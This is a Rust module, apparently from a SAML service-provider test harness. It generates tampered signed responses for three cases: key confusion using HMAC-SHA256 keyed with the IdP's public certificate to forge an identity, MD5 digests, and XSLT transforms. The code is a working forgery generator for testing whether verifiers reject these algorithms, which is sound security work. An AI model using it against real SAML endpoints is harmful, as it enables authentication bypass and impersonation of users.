//! Tamper-catalogue entries whose assertion signature is re-made with algorithms or transforms
//! a correct SP refuses (issue 16): an HMAC keyed with the IdP's public certificate (key
//! confusion), an MD5 digest, and an XSLT transform. Each SignedInfo is signed as the named
//! algorithm says, so an SP that allows the algorithm finds a signature that verifies.

use base64::Engine as _;
use hmac::Mac as _;
use sha2::Digest as _;

use super::{assertion_mut, make_assertion_evil, shape, AttackContext, AttackError};
use crate::c14n::{self, Subset};
use crate::sign::sign_response;
use crate::spec::ResponseSpec;
use crate::style::SignMode;
use crate::xml::{self, Element, Node, NS_ASSERTION, NS_DSIG};

const EXC_C14N: &str = "http://www.w3.org/2001/10/xml-exc-c14n#";
/// RFC 6931 §2.2.2: HMAC-SHA256.
const HMAC_SHA256: &str = "http://www.w3.org/2001/04/xmldsig-more#hmac-sha256";
/// RFC 6931 §2.1.1: MD5 (RFC 6151: not for signatures).
const MD5: &str = "http://www.w3.org/2001/04/xmldsig-more#md5";
/// XML-DSig §6.6.5: the XSLT transform.
const XSLT: &str = "http://www.w3.org/TR/1999/REC-xslt-19991116";
const XSL_NS: &str = "http://www.w3.org/1999/XSL/Transform";

/// What is re-made in the assertion's signature.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Remake {
    /// The forged identity, SignatureMethod HMAC-SHA256 keyed with the trusted certificate's
    /// PEM: what a verifier that takes the key from KeyInfo or the metadata and lets the
    /// document pick the algorithm computes (xml-crypto's key confusion, node-saml/xml-crypto#301).
    HmacWithCertificate,
    /// DigestMethod MD5, re-signed with the trusted key.
    Md5Digest,
    /// An identity XSLT transform before exclusive c14n in the Reference, re-signed with the
    /// trusted key (SAML Core §5.4.4 names only enveloped-signature and exclusive c14n).
    XsltTransform,
}

/// Signs `spec` (assertion signed only), then re-makes the assertion's signature as `how` says.
pub(super) fn remade(
    spec: &mut ResponseSpec,
    ctx: &AttackContext<'_>,
    attack: &'static str,
    how: Remake,
) -> Result<String, AttackError> {
    spec.sign = SignMode::Assertion;
    let signed =
        sign_response(spec, ctx.trusted).map_err(|source| AttackError::Sign { attack, source })?;
    let mut root = xml::parse(&signed).map_err(|source| AttackError::Rewrite { attack, source })?;
    let missing = |what: &str| shape(attack, &format!("no {what} in the assertion signature"));
    {
        let assertion = assertion_mut(&mut root, attack)?;
        if how == Remake::HmacWithCertificate {
            make_assertion_evil(assertion, ctx.uid_attribute, ctx.forged_identity());
        }
        let signed_info = assertion
            .child_mut(NS_DSIG, "Signature")
            .and_then(|s| s.child_mut(NS_DSIG, "SignedInfo"))
            .ok_or_else(|| missing("SignedInfo"))?;
        let prefix = signed_info
            .prefix()
            .map(|p| format!("{p}:"))
            .unwrap_or_default();
        match how {
            Remake::HmacWithCertificate => signed_info
                .child_mut(NS_DSIG, "SignatureMethod")
                .ok_or_else(|| missing("SignatureMethod"))?
                .set_attr("Algorithm", HMAC_SHA256),
            Remake::Md5Digest => signed_info
                .child_mut(NS_DSIG, "Reference")
                .and_then(|r| r.child_mut(NS_DSIG, "DigestMethod"))
                .ok_or_else(|| missing("DigestMethod"))?
                .set_attr("Algorithm", MD5),
            Remake::XsltTransform => {
                let transforms = signed_info
                    .child_mut(NS_DSIG, "Reference")
                    .and_then(|r| r.child_mut(NS_DSIG, "Transforms"))
                    .ok_or_else(|| missing("Transforms"))?;
                let at = transforms.children.len().saturating_sub(1);
                transforms
                    .children
                    .insert(at, Node::Element(identity_xslt(&prefix)?));
            }
        }
    }
    let md5 = |bytes: &[u8]| {
        use md5::Digest as _;
        md5::Md5::digest(bytes).to_vec()
    };
    let sha256 = |bytes: &[u8]| sha2::Sha256::digest(bytes).to_vec();
    let digest: &dyn Fn(&[u8]) -> Vec<u8> = match how {
        Remake::Md5Digest => &md5,
        _ => &sha256,
    };
    let digest_value =
        assertion_digest(&root, digest).ok_or_else(|| missing("digestable assertion"))?;
    set_in_signed_info(&mut root, &["Reference", "DigestValue"], &digest_value)
        .ok_or_else(|| missing("DigestValue"))?;
    let canonical = signed_info_c14n(&root).ok_or_else(|| missing("SignedInfo"))?;
    let crypto = |e: &dyn std::fmt::Display| shape(attack, &format!("signing: {e}"));
    let value = match how {
        Remake::HmacWithCertificate => {
            let mut mac = hmac::Hmac::<sha2::Sha256>::new_from_slice(
                ctx.trusted.certificate().to_pem().as_bytes(),
            )
            .map_err(|e| crypto(&e))?;
            mac.update(&canonical);
            mac.finalize().into_bytes().to_vec()
        }
        _ => crate::sign::rsa_sign(
            ctx.trusted,
            crate::style::SignatureAlgorithm::RsaSha256,
            &canonical,
        )
        .map_err(|e| crypto(&e))?,
    };
    {
        let signature = assertion_mut(&mut root, attack)?
            .child_mut(NS_DSIG, "Signature")
            .ok_or_else(|| missing("Signature"))?;
        signature
            .child_mut(NS_DSIG, "SignatureValue")
            .ok_or_else(|| missing("SignatureValue"))?
            .set_text(base64::engine::general_purpose::STANDARD.encode(value));
    }
    Ok(root.to_xml())
}

/// `<Transform Algorithm="…xslt…">` holding a stylesheet that copies its input.
fn identity_xslt(prefix: &str) -> Result<Element, AttackError> {
    let text = format!(
        "<w xmlns:ds=\"{NS_DSIG}\" xmlns=\"{NS_DSIG}\"><{prefix}Transform Algorithm=\"{XSLT}\">\
<xsl:stylesheet xmlns:xsl=\"{XSL_NS}\" version=\"1.0\"><xsl:template match=\"/\"><xsl:copy-of select=\".\"/>\
</xsl:template></xsl:stylesheet></{prefix}Transform></w>"
    );
    xml::parse(&text)
        .map_err(|source| AttackError::Rewrite {
            attack: "xslt-transform",
            source,
        })?
        .elements()
        .next()
        .cloned()
        .ok_or_else(|| shape("xslt-transform", "the transform did not parse"))
}

fn signed_info(root: &Element) -> Option<&Element> {
    root.child(NS_ASSERTION, "Assertion")?
        .child(NS_DSIG, "Signature")?
        .child(NS_DSIG, "SignedInfo")
}

fn set_in_signed_info(root: &mut Element, path: &[&str], text: &str) -> Option<()> {
    let mut el = root
        .child_mut(NS_ASSERTION, "Assertion")?
        .child_mut(NS_DSIG, "Signature")?
        .child_mut(NS_DSIG, "SignedInfo")?;
    for local in path {
        el = el.child_mut(NS_DSIG, local)?;
    }
    el.set_text(text);
    Some(())
}

/// Exclusive c14n of SignedInfo (its CanonicalizationMethod), as the signer signs it.
fn signed_info_c14n(root: &Element) -> Option<Vec<u8>> {
    let signed_info = signed_info(root)?;
    c14n::canonicalize(
        root,
        &Subset {
            apex: signed_info,
            omit: None,
            inclusive_prefixes: &[],
        },
    )
}

/// Base64 of `digest` over the assertion without its Signature, with the Reference's
/// inclusive prefixes (XML-DSig §6.6.4, Exc-C14N §3).
pub(super) fn assertion_digest(
    root: &Element,
    digest: &dyn Fn(&[u8]) -> Vec<u8>,
) -> Option<String> {
    let assertion = root.child(NS_ASSERTION, "Assertion")?;
    let signature = assertion.child(NS_DSIG, "Signature")?;
    let prefixes: Vec<&str> = signature
        .child(NS_DSIG, "SignedInfo")?
        .child(NS_DSIG, "Reference")?
        .child(NS_DSIG, "Transforms")?
        .children_named(NS_DSIG, "Transform")
        .filter(|t| t.attr("Algorithm") == Some(EXC_C14N))
        .flat_map(|t| t.children_named(EXC_C14N, "InclusiveNamespaces"))
        .filter_map(|n| n.attr("PrefixList"))
        .flat_map(str::split_ascii_whitespace)
        .collect();
    let canonical = c14n::canonicalize(
        root,
        &Subset {
            apex: assertion,
            omit: Some(signature),
            inclusive_prefixes: &prefixes,
        },
    )?;
    Some(base64::engine::general_purpose::STANDARD.encode(digest(&canonical)))
}
